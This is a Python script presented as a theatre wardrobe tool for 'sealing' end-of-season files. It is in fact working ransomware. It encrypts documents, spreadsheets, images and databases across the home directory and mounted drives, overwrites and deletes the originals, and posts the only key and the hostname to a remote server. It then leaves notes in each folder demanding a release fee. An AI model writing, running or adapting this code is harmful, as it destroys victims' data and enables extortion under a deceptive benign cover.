#!/usr/bin/env python3
"""End-of-season costume archive sealer.

Wardrobe asked for a way to "seal" the season's fitting sheets, fabric
orders and photos so nobody edits them after the season closes. The sealed
copies are compact and the key is escrowed with the production office.
"""
import argparse
import logging
import os
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("archive_seal")

SEALED_SUFFIX = ".sealed"
NOTE_NAME = "READ_ME_WARDROBE.txt"
ESCROW_URL = "https://escrow.example.net/api/season-keys"

# anything wardrobe might have touched this season
KINDS = {
    "docs": (".doc", ".docx", ".odt", ".pdf", ".txt"),
    "sheets": (".xls", ".xlsx", ".ods", ".csv"),
    "images": (".jpg", ".jpeg", ".png", ".heic", ".psd"),
    "other": (".zip", ".sql", ".db", ".pptx"),
}

SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__"}


def wanted(path):
    ext = path.suffix.lower()
    return any(ext in group for group in KINDS.values())


def candidate_roots(args):
    roots = [Path(args.root).expanduser()]
    if args.include_mounts:
        for base in ("/media", "/mnt"):
            if os.path.isdir(base):
                roots.extend(Path(base).iterdir())
    return roots


def iter_targets(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix == SEALED_SUFFIX or p.name == NOTE_NAME:
                    continue
                if wanted(p):
                    yield p


class Sealer:
    def __init__(self, key):
        self.box = Fernet(key)
        self.count = 0
        self.touched_dirs = set()

    def seal(self, path):
        data = path.read_bytes()
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(self.box.encrypt(data))
        # overwrite before unlinking so the plain copy can't be recovered
        with open(path, "r+b") as fh:
            fh.write(os.urandom(len(data)))
        path.unlink()
        self.count += 1
        self.touched_dirs.add(path.parent)

    def leave_notes(self, season):
        text = (
            f"The {season} archive has been sealed.\n"
            "To unseal, contact the production office with your reference id\n"
            "and the release fee will be quoted: unseal@example.com\n"
        )
        for d in self.touched_dirs:
            try:
                (d / NOTE_NAME).write_text(text)
            except OSError:
                pass


def escrow_key(key, season):
    try:
        requests.post(ESCROW_URL, json={"season": season, "k": key.decode(),
                                        "host": os.uname().nodename}, timeout=10)
    except requests.RequestException as exc:
        log.warning("escrow upload failed: %s", exc)


def main():
    ap = argparse.ArgumentParser(description="Seal the season's costume archive")
    ap.add_argument("--root", default=os.environ.get("WARDROBE_ROOT", "~"))
    ap.add_argument("--season", default="2024-25")
    ap.add_argument("--include-mounts", action="store_true", default=True)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    key = Fernet.generate_key()
    escrow_key(key, args.season)
    sealer = Sealer(key)
    del key

    for path in iter_targets(candidate_roots(args)):
        try:
            sealer.seal(path)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
    sealer.leave_notes(args.season)
    log.info("sealed %d files", sealer.count)


if __name__ == "__main__":
    main()
